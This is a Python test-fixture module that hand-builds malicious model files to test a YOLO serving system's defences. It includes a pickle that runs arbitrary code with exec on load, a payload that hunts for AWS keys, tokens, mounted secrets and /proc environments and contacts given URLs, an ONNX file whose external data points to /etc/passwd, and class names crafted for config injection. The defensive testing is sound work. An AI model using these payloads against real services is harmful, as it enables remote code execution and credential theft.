"""Weights that nobody should serve, and small ones that everybody may: files made by hand, since PyTorch is in the images only."""

import io
import pickle
import sys
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import onnx
from onnx import TensorProto, helper

sys.path.append(str(Path(__file__).parents[1] / "worker"))

import foreign_onnx
import yolo_models

ODD_NAMES = ['a "quoted" one', "O'Neil's\\n", "two\nlines", "{braces}: [and], #1", "公交车 中文", "", "'}, 'task': 'segment"]
"""Class names that would leave their place in a config.pbtxt or a Python literal, were they not escaped."""


class Runs:
    """A pickle that runs a program when it is read, as any pickle may."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self._code,)


def archive(pickled: bytes, size: int = 0) -> bytes:
    """A .pt as PyTorch writes it: a zip with a pickle, and a tensor of `size` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as file:
        for name, content in (("data.pkl", pickled), ("byteorder", b"little"), ("data/0", bytes(size)), ("version", b"3\n")):
            file.writestr(f"weights/{name}", content)
    return buffer.getvalue()


def running(code: str, size: int = 0) -> bytes:
    """A .pt of at least `size` bytes that runs `code` when it is loaded."""
    return archive(pickle.dumps(Runs(code), protocol=2), size)


def sleeping(size: int = 0) -> bytes:
    """A .pt that is never loaded to its end."""
    return running("import time; time.sleep(3600)", size)


def of_another_program() -> bytes:
    """A regression, as another library keeps it."""
    return archive(b"\x80\x02csklearn.linear_model\nLinearRegression\nq\x00.")


def spy(*urls: str) -> bytes:
    """A .pt that looks for anything it could use elsewhere, asks for `urls`, and puts what it found into its exception."""
    return running(f"urls = {urls!r}\n{SPY}")


SPY = """
import os, pathlib, ssl, urllib.error, urllib.request

found = [f"the variable {name}" for name in os.environ if name.startswith("AWS") or "SECRET" in name or "TOKEN" in name]
for folder in ("/var/run/secrets", "/run/secrets", "/root/.aws", "/claim", "/etc/yolo-operator"):
    try:
        found += [str(path) for path in pathlib.Path(folder).rglob("*")]
    except OSError:
        pass
for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        if b"AWS_" in path.read_bytes():
            found.append(str(path))
    except OSError:
        pass
for folder in ("/work/check", "/work/source", "/usr/lib", "/app"):
    if os.access(folder, os.W_OK):
        found.append(folder + " to write to")
answers = []
for url in urls:
    try:
        answers.append(urllib.request.urlopen(url, timeout=5, context=ssl._create_unverified_context() if url.startswith("https") else None).status)
    except urllib.error.HTTPError as error:
        answers.append(error.code)
    except OSError as error:
        answers.append(str(error))
raise RuntimeError(f"found {found}, was answered {answers}")
"""


def detector(names: list[str] | None = None, batch: int | str = "batch") -> bytes:
    """A small ONNX shaped like a YOLO's, with Ultralytics' metadata in it."""
    names = names or ["bus", "person"]
    model = yolo_models.detector(classes=len(names), batch=batch)
    said = {"task": "detect", "names": dict(enumerate(names)), "stride": yolo_models.STRIDE, "imgsz": [yolo_models.SIZE] * 2, "batch": 1, "channels": 3}
    for key, value in said.items():
        model.metadata_props.add(key=key, value=str(value))
    return bytes(model.SerializeToString())


def yolov5() -> bytes:
    """What `yolov5/export.py --dynamic` writes, small: rows with an objectness, free dimensions, no task."""
    rows = foreign_onnx.rows_of(5 + len(foreign_onnx.NAMES), 3 * foreign_onnx.CELLS)
    model = foreign_onnx.answering({"output": rows}, declared={"output": ["batch", "anchors", "values"]}, said={"stride": 32, "names": foreign_onnx.NAMES})
    return bytes(model.SerializeToString())


def yolov10() -> bytes:
    """Final detections, as Ultralytics 8.2 exports YOLOv10: nothing in the metadata says that no NMS is to follow."""
    return bytes(foreign_onnx.answering({"output0": foreign_onnx.final()}).SerializeToString())


def fixed_batch() -> bytes:
    """A detector that takes four pictures, no fewer and no more."""
    return bytes(foreign_onnx.detector(batch=4).SerializeToString())


def quantized() -> bytes:
    """A detector in INT8, with Q/DQ nodes."""
    with tempfile.TemporaryDirectory() as folder:
        return bytes(foreign_onnx.quantized(foreign_onnx.detector(), Path(folder)).SerializeToString())


def other_onnx() -> bytes:
    """A valid ONNX that is no YOLO."""
    ports = [helper.make_tensor_value_info(name, TensorProto.FLOAT, ["batch", 10]) for name in ("features", "score")]
    graph = helper.make_graph([helper.make_node("Relu", ["features"], ["score"])], "scores", ports[:1], ports[1:])
    return bytes(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8).SerializeToString())


def with_a_file_beside_it() -> bytes:
    """An ONNX that wants a tensor read from a path of its choice."""
    model = onnx.load_model_from_string(detector())
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="/etc/passwd")
    return bytes(model.SerializeToString())
